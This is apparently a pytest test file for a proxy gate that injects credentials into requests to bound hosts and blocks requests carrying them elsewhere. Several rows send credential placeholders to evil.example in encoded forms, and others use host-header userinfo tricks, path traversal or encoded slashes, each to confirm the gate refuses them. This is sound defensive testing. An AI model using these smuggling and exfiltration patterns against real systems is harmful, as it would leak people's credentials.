"""corral.proxy.gate: one table of requests through `Gate.check`, pure and fast.

Each row is (gate, method, host, port, target, headers, tls, origin_form, sni, host_header)
-> the verdict: allowed, status, rule, injected credentials, exfiltration flag and exactly the
headers that would be sent upstream. Real values may appear in the sent headers only in the
rows that inject them, and never in the verdict's repr or reason.

Fake secrets are built at run time, never written out as token-looking literals.
"""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from corral.proxy.credentials import Credential, Injector
from corral.proxy.gate import Gate, Verdict
from corral.proxy.httprules import HttpRules

# -- credentials ------------------------------------------------------------------------------

GH_VALUE = "ghs-test-" + "a1" * 18  # swapped wherever the client put its placeholder (header="*")
API_VALUE = "key-test-" + "b2" * 16  # x-api-key template
GIT_VALUE = "git-test-" + "c3" * 16  # Authorization: Basic base64(x-access-token:value)
LOCAL_VALUE = "loc-test-" + "d4" * 12  # header="*", allowed over plain http
BODY_VALUE = "bod-test-" + "e5" * 12  # X-Body template and in_body

GH_PH = "corral-ph-gh-token-" + "0" * 31 + "1"
API_PH = "corral-ph-api-key-" + "0" * 31 + "2"
GIT_PH = "corral-ph-git-token-" + "0" * 31 + "3"
LOCAL_PH = "corral-ph-local-" + "0" * 31 + "4"
BODY_PH = "corral-ph-body-" + "0" * 31 + "5"

GH = Credential("GH_TOKEN", GH_VALUE, ("api.github.com",), header="*")
API = Credential("API_KEY", API_VALUE, ("api.example.com",), header="x-api-key: {value}")
GIT = Credential("GIT_TOKEN", GIT_VALUE, ("github.com",), basic_user="x-access-token")
LOCAL = Credential("LOCAL_TOKEN", LOCAL_VALUE, ("plain.example", "127.0.0.1"), header="*", allow_plaintext=True)
BODY = Credential("BODY_TOKEN", BODY_VALUE, ("body.example",), header="X-Body: {value}", in_body=True)

BINDINGS = {GH_PH: GH, API_PH: API, GIT_PH: GIT, LOCAL_PH: LOCAL, BODY_PH: BODY}
SECRETS = {"GH_TOKEN": GH_VALUE, "API_KEY": API_VALUE, "GIT_TOKEN": GIT_VALUE, "LOCAL_TOKEN": LOCAL_VALUE,
           "BODY_TOKEN": BODY_VALUE}

RULES = HttpRules([
    "allow GET,HEAD github.com/**",
    "deny POST github.com/*/*.git/git-receive-pack",
    "deny GET github.com/*/*.git/info/refs?service=git-receive-pack",
])
ALLOW_GH = "allow GET,HEAD github.com/**"


def b(text: str) -> bytes:
    return text.encode()


def basic(user: str, secret: str) -> bytes:
    return b"Basic " + base64.b64encode(f"{user}:{secret}".encode())


def carried(headers, value: str) -> bool:
    """Whether `value` is in the headers, raw or inside `Basic base64(user:value)`."""
    for _, v in headers or ():
        if value.encode() in v:
            return True
        scheme, _, data = v.partition(b" ")
        if scheme.lower() == b"basic" and value.encode() in base64.b64decode(data):
            return True
    return False


def gate(rules=False, creds=False, host_match=False) -> Gate:
    return Gate(RULES if rules else None, Injector(BINDINGS) if creds else None, require_host_match=host_match)


UA = (b"user-agent", b"curl/8")
ACCEPT = (b"accept", b"*/*")

# Gates shared by the rows.
EMPTY = gate()
R = gate(rules=True)
C = gate(creds=True)
RC = gate(rules=True, creds=True)
HM = gate(creds=True, host_match=True)
HM_OFF = gate(creds=True, host_match=False)


def row(id, g, method, host, target, headers, *, port=443, tls=True, origin_form=False, sni=None, host_header=None,
        allowed=True, status=200, rule="", injected=(), exfiltration=False, sent="same", redact=None,
        body=False):
    """`sent`: the exact headers to send upstream; "same" = the request's own, None = refused."""
    if sent == "same":
        sent = list(headers) if allowed else None
    call = (g, method, host, port, target, list(headers), tls, origin_form, sni, host_header)
    want = dict(allowed=allowed, status=status, rule=rule, injected=tuple(injected), exfiltration=exfiltration,
                sent=sent, redact=redact, body=body)
    return pytest.param(call, want, id=id)


ROWS = [
    # --- nothing configured: the request goes as it came ------------------------------------
    row("empty-gate", EMPTY, "GET", "example.com", "/x", [UA, ACCEPT], tls=False),

    # --- require_host_match (origin-form requests on terminated connections) -----------------
    row("host-match-ok", HM, "GET", "api.github.com", "/", [UA], origin_form=True, sni="api.github.com",
        host_header="api.github.com", redact=True),
    row("host-match-case-dot-port", HM, "GET", "api.github.com", "/", [UA], origin_form=True,
        sni="API.GitHub.com", host_header="Api.GitHub.com.:443", redact=True),
    row("host-header-other-host", HM, "GET", "api.github.com", "/", [(b"authorization", b("Bearer " + GH_PH))],
        origin_form=True, sni="api.github.com", host_header="evil.example", allowed=False, status=421),
    row("host-header-wrong-port", HM, "GET", "api.github.com", "/", [UA], origin_form=True, sni="api.github.com",
        host_header="api.github.com:8443", allowed=False, status=421),
    row("host-header-userinfo", HM, "GET", "api.github.com", "/", [UA], origin_form=True, sni="api.github.com",
        host_header="api.github.com@evil.example", allowed=False, status=421),
    row("sni-other-host", HM, "GET", "api.github.com", "/", [UA], origin_form=True, sni="evil.example",
        host_header="api.github.com", allowed=False, status=421),
    row("no-host-header", HM, "GET", "api.github.com", "/", [UA], origin_form=True, sni="api.github.com",
        host_header=None, allowed=False, status=421),
    row("ip-literal-no-sni", HM, "GET", "127.0.0.1", "/", [UA], port=8443, origin_form=True, sni=None,
        host_header="127.0.0.1:8443", redact=True),
    row("ip-literal-other-ip", HM, "GET", "127.0.0.1", "/", [UA], port=8443, origin_form=True, sni=None,
        host_header="127.0.0.2:8443", allowed=False, status=421),
    row("ipv6-literal", HM, "GET", "::1", "/", [UA], port=8443, origin_form=True, sni=None,
        host_header="[::1]:8443"),
    row("ipv6-unbracketed-host-header", HM, "GET", "::1", "/", [UA], port=8443, origin_form=True, sni=None,
        host_header="::1", allowed=False, status=421),
    # Checked only for origin-form requests, and only when asked for.
    row("mismatch-absolute-form", HM, "GET", "api.github.com", "/", [UA], origin_form=False,
        sni="evil.example", host_header="evil.example", redact=True),
    row("mismatch-check-off", HM_OFF, "GET", "api.github.com", "/", [UA], origin_form=True,
        sni="evil.example", host_header="evil.example", redact=True),

    # --- HTTP rules -----------------------------------------------------------------------
    row("rule-allows-get", R, "GET", "github.com", "/org/repo", [UA], rule=ALLOW_GH),
    row("rule-denies-push", R, "POST", "github.com", "/org/repo.git/git-receive-pack", [UA], allowed=False,
        status=403, rule="deny POST github.com/*/*.git/git-receive-pack"),
    row("rule-denies-push-discovery", R, "GET", "github.com", "/org/repo.git/info/refs?service=git-receive-pack",
        [UA], allowed=False, status=403, rule="deny GET github.com/*/*.git/info/refs?service=git-receive-pack"),
    row("rule-allows-fetch-discovery", R, "GET", "github.com", "/org/repo.git/info/refs?service=git-upload-pack",
        [UA], rule=ALLOW_GH),
    row("rule-host-default-deny", R, "PUT", "github.com", "/org/repo", [UA], allowed=False, status=403),
    row("rule-other-host-default-allow", R, "DELETE", "example.com", "/x", [UA]),
    row("rule-dotdot-normalised", R, "POST", "github.com", "/org/x/../repo.git/git-receive-pack", [UA],
        allowed=False, status=403, rule="deny POST github.com/*/*.git/git-receive-pack"),
    row("rule-encoded-slash-ambiguous", R, "GET", "github.com",
        "/org/repo.git%2Finfo%2Frefs?service=git-receive-pack", [UA], allowed=False, status=400,
        rule="deny GET github.com/*/*.git/info/refs?service=git-receive-pack"),
    row("rule-climbs-above-root", R, "GET", "github.com", "/../etc", [UA], allowed=False, status=400),
    row("rule-trace", R, "TRACE", "example.com", "/", [UA], allowed=False, status=405),

    # --- credentials: injection into bound hosts ------------------------------------------
    row("anywhere-bearer", C, "GET", "api.github.com", "/user", [UA, (b"authorization", b("Bearer " + GH_PH))],
        injected=["GH_TOKEN"], sent=[UA, (b"authorization", b("Bearer " + GH_VALUE))], redact=True),
    row("anywhere-custom-header", C, "GET", "api.github.com", "/user", [(b"x-token", b("token " + GH_PH)), UA],
        injected=["GH_TOKEN"], sent=[(b"x-token", b("token " + GH_VALUE)), UA], redact=True),
    row("anywhere-basic", C, "GET", "api.github.com", "/", [(b"authorization", basic("me", GH_PH))],
        injected=["GH_TOKEN"], sent=[(b"authorization", basic("me", GH_VALUE))], redact=True),
    row("anywhere-absent-sends-nothing", C, "GET", "api.github.com", "/", [UA, ACCEPT], redact=True),
    row("anywhere-name-case", C, "GET", "API.GITHUB.COM.", "/", [(b"authorization", b("token " + GH_PH))],
        injected=["GH_TOKEN"], sent=[(b"authorization", b("token " + GH_VALUE))], redact=True),
    row("template-added", C, "POST", "api.example.com", "/v1", [UA],
        injected=["API_KEY"], sent=[UA, (b"x-api-key", b(API_VALUE))], redact=True),
    row("template-replaces-client-header", C, "POST", "api.example.com", "/v1",
        [(b"X-Api-Key", b"mine"), UA, (b"x-api-key", b"again")],
        injected=["API_KEY"], sent=[(b"x-api-key", b(API_VALUE)), UA], redact=True),
    row("template-keeps-client-placeholder-header", C, "POST", "api.example.com", "/v1",
        [UA, (b"x-api-key", b(API_PH))], injected=["API_KEY"], sent=[UA, (b"x-api-key", b(API_VALUE))], redact=True),
    row("basic-user-rendered", C, "GET", "github.com", "/org/repo.git/info/refs", [UA],
        injected=["GIT_TOKEN"], sent=[UA, (b"Authorization", basic("x-access-token", GIT_VALUE))], redact=True),
    row("basic-user-client-presented", C, "GET", "github.com", "/", [(b"authorization", basic("someone", GIT_PH))],
        injected=["GIT_TOKEN"], sent=[(b"authorization", basic("someone", GIT_VALUE))], redact=True),
    row("in-body-template", C, "POST", "body.example", "/", [UA],
        injected=["BODY_TOKEN"], sent=[UA, (b"X-Body", b(BODY_VALUE))], redact=True, body=True),
    row("rules-and-credential", RC, "GET", "github.com", "/org/repo", [UA], rule=ALLOW_GH,
        injected=["GIT_TOKEN"], sent=[UA, (b"Authorization", basic("x-access-token", GIT_VALUE))], redact=True),
    row("rule-refusal-before-injection", RC, "POST", "github.com", "/org/repo.git/git-receive-pack",
        [(b"authorization", basic("x", GIT_PH))], allowed=False, status=403,
        rule="deny POST github.com/*/*.git/git-receive-pack"),
    row("unbound-host-untouched", C, "GET", "example.com", "/", [UA, (b"authorization", b"Bearer own-token-1234")],
        redact=False),

    # --- exfiltration: a placeholder on its way to a host it is not bound to ---------------
    row("exfil-header", C, "GET", "evil.example", "/", [(b"authorization", b("Bearer " + GH_PH))],
        allowed=False, status=403, exfiltration=True),
    row("exfil-target", C, "GET", "evil.example", "/?t=" + GH_PH, [UA], allowed=False, status=403, exfiltration=True),
    row("exfil-percent-encoded", C, "GET", "evil.example", "/?t=" + quote(GH_PH, safe="").replace("-", "%2D"), [UA],
        allowed=False, status=403, exfiltration=True),
    row("exfil-upper-case", C, "GET", "evil.example", "/", [(b"x-a", b(GH_PH.upper()))],
        allowed=False, status=403, exfiltration=True),
    row("exfil-basic-base64", C, "GET", "evil.example", "/", [(b"authorization", basic("u", API_PH))],
        allowed=False, status=403, exfiltration=True),
    row("exfil-base64-any-alignment", C, "GET", "evil.example", "/", [(b"x-b", base64.b64encode(b("ab" + GH_PH)))],
        allowed=False, status=403, exfiltration=True),
    row("exfil-other-credential-bound-host", C, "GET", "github.com", "/", [(b"x-leak", b(GH_PH))],
        allowed=False, status=403, exfiltration=True),
    row("exfil-plaintext-too", C, "GET", "evil.example", "/", [(b"cookie", b("s=" + API_PH))], tls=False,
        allowed=False, status=403, exfiltration=True),
    row("exfil-wins-over-rule-allow", RC, "GET", "github.com", "/org/repo", [(b"x-leak", b(API_PH))],
        allowed=False, status=403, rule=ALLOW_GH, exfiltration=True),

    # --- plaintext to a bound host -------------------------------------------------------------
    row("plaintext-template-refused", C, "GET", "api.example.com", "/", [UA], port=80, tls=False,
        allowed=False, status=403),
    row("plaintext-anywhere-carried-refused", C, "GET", "api.github.com", "/",
        [(b"authorization", b("Bearer " + GH_PH))], port=80, tls=False, allowed=False, status=403),
    row("plaintext-anywhere-not-carried", C, "GET", "api.github.com", "/", [UA], port=80, tls=False, redact=True),
    row("plaintext-allowed-credential", C, "GET", "plain.example", "/", [(b"x-t", b(LOCAL_PH))], port=80, tls=False,
        injected=["LOCAL_TOKEN"], sent=[(b"x-t", b(LOCAL_VALUE))], redact=True),
    row("plaintext-allowed-ip-literal", C, "GET", "127.0.0.1", "/", [(b"authorization", b("Bearer " + LOCAL_PH))],
        port=8080, tls=False, injected=["LOCAL_TOKEN"], sent=[(b"authorization", b("Bearer " + LOCAL_VALUE))],
        redact=True),

    # --- TRACE / TRACK ---------------------------------------------------------------------------
    row("trace-bound", C, "TRACE", "api.github.com", "/", [(b"authorization", b("Bearer " + GH_PH))],
        allowed=False, status=405),
    row("track-unbound", C, "TRACK", "example.com", "/", [UA], allowed=False, status=405),
    row("trace-lower-case", C, "trace", "example.com", "/", [UA], allowed=False, status=405),
]


@pytest.mark.parametrize("call, want", ROWS)
def test_gate_check(call, want):
    g, method, host, port, target, headers, tls, origin_form, sni, host_header = call
    v = g.check(method, host, port, target, headers, tls=tls, origin_form=origin_form, sni=sni,
                host_header=host_header)
    assert isinstance(v, Verdict)
    assert (v.allowed, v.status) == (want["allowed"], want["status"]), v.reason
    assert v.rule == want["rule"]
    assert v.injected == want["injected"]
    assert v.exfiltration is want["exfiltration"]
    assert v.headers == want["sent"]
    if want["redact"] is not None:
        assert v.redact is want["redact"]
    assert v.substitute_body is want["body"]
    if not v.allowed:
        assert v.reason  # the 403/405/421 body and the audit log say why
    # A real value is in the headers exactly when its credential was injected.
    for name, value in SECRETS.items():
        assert carried(v.headers, value) == (name in v.injected), name
        assert value not in repr(v)
        assert value not in str(v)
        assert value not in v.reason


def test_verdict_repr_hides_headers_even_when_they_hold_a_value():
    v = C.check("GET", "api.example.com", 443, "/", [UA], tls=True)
    assert API_VALUE in repr(v.headers)
    assert API_VALUE not in repr(v) and "x-api-key" not in repr(v)
    assert "API_KEY" in repr(v)  # the names injected are shown


def test_foreign_placeholders_are_those_not_bound_to_the_host():
    v = C.check("POST", "api.github.com", 443, "/", [UA], tls=True)
    assert v.allowed
    assert set(v.foreign) == set(BINDINGS) - {GH_PH}
    assert all(v.foreign[p] is BINDINGS[p] for p in v.foreign)
    unbound = C.check("POST", "example.com", 443, "/", [UA], tls=True)
    assert set(unbound.foreign) == set(BINDINGS)
    assert unbound.redact is False
    assert EMPTY.check("POST", "example.com", 443, "/", [UA], tls=True).foreign is None
    assert R.check("POST", "example.com", 443, "/", [UA], tls=True).foreign is None


def test_only_credential_host_gets_foreign_none_when_everything_is_bound():
    only = Gate(None, Injector({GH_PH: GH}))
    assert only.check("GET", "api.github.com", 443, "/", [UA], tls=True).foreign is None
    assert set(only.check("GET", "example.com", 443, "/", [UA], tls=True).foreign) == {GH_PH}


def test_host_is_the_connection_target_not_the_host_header():
    # The Host header names a bound host, the connection goes elsewhere: nothing is injected.
    v = C.check("GET", "evil.example", 443, "/", [(b"host", b"api.example.com"), UA], tls=True,
                host_header="api.example.com")
    assert v.allowed and v.injected == ()
    assert API_VALUE not in repr(v.headers)


def test_headers_are_not_mutated_in_place():
    headers = [UA, (b"authorization", b("Bearer " + GH_PH))]
    before = list(headers)
    v = C.check("GET", "api.github.com", 443, "/", headers, tls=True)
    assert v.injected == ("GH_TOKEN",)
    assert headers == before
    v2 = EMPTY.check("GET", "x.example", 443, "/", headers, tls=True)
    assert v2.headers == headers and v2.headers is not headers


@pytest.mark.parametrize("g, host, expected", [
    (EMPTY, "github.com", False),
    (R, "github.com", True),
    (R, "example.com", False),  # no rule names it and the default allows
    (C, "api.github.com", True),
    (C, "x.api.github.com", False),  # exact name, not a suffix
    (C, "example.com", False),
    (RC, "github.com", True),
    (Gate(HttpRules([], default="deny")), "anything.example", True),
])
def test_must_inspect(g, host, expected):
    assert g.must_inspect(host) is expected


def test_inspecting():
    assert not EMPTY.inspecting
    assert not Gate(None, None, strip_response_headers=("Server",)).inspecting
    assert R.inspecting and C.inspecting and RC.inspecting


def test_strip_response_headers_are_lower_case_bytes():
    g = Gate(None, None, strip_response_headers=("X-Powered-By", b"Server"))
    assert g.strip == frozenset({b"x-powered-by", b"server"})


def test_verdicts_name_the_placeholders_for_the_audit_log():
    """Injected and exfiltration verdicts carry the placeholders involved (never the values)."""
    from corral.proxy.credentials import Credential, Injector
    from corral.proxy.gate import Gate

    value = "tok-gate-" + "3c" * 12
    ph = "corral-ph-tok-" + "9" * 32
    gate = Gate(None, Injector({ph: Credential("TOK", value, ("api.example",), header="*")}))
    sent = gate.check("GET", "api.example", 443, "/", [(b"authorization", f"Bearer {ph}".encode())], tls=True)
    assert sent.allowed and sent.injected == ("TOK",) and sent.placeholders == (ph,)
    leak = gate.check("GET", "evil.example", 443, f"/?t={ph}", [], tls=True)
    assert not leak.allowed and leak.exfiltration and leak.placeholders == (ph,)
    assert value not in repr(sent) + repr(leak) + repr(sent.placeholders) + repr(leak.placeholders)
    plain = gate.check("GET", "other.example", 443, "/", [], tls=True)
    assert plain.allowed and plain.placeholders == ()
